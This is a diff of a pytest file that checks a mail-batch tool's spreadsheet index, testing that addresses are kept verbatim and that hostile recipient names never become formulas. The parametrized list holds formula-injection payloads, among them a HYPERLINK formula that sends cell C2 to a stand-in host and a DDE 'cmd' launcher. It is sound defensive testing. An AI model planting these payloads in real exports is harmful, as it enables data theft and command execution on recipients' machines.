@@ -61,9 +61,29 @@ def test_any_name_is_one_cell(name: str) -> None:
     assert (row[7], row[8], len(row)) == (name, "Gatan 1", len(HEADER))
 
 
+@pytest.mark.parametrize("line", ["- lgh 1102", "+Plus Bygg AB", "@Home i Sverige AB", "-65 Års-klubben c/o Ek"])
+def test_an_address_is_in_the_index_as_it_is_in_the_window(line: str) -> None:
+    (_, row) = index(print_batch([printed(recipient=("Anna Ek", line))], return_address="Box 1"))
+    assert row[8] == line
+
+
 @pytest.mark.parametrize(
     "name",
-    ['=HYPERLINK("https://elsewhere.example/?"&C2;"Anna Ek")', "+1", "-1", "@SUM(A1)", "\t=1+1", "\n=1+1", "＝1+1"],
+    [
+        '=HYPERLINK("https://elsewhere.example/?"&C2;"Anna Ek")',
+        "+1",
+        "-1",
+        "@SUM(A1)",
+        "\t=1+1",
+        "\n=1+1",
+        "＝1+1",
+        "=Anna",
+        "-cmd|' /C calc'!A0",
+        "+[bok]blad!A1",
+        "@HYPERLINK(A1)",
+        "-file:///c/x#blad.A1",
+        "+Anna&B2",
+    ],
 )
 def test_no_name_is_a_formula_when_a_person_opens_the_index(name: str) -> None:
     hostile = replace(printed(recipient=(name, name)), postcode=name, town=name, country=name)
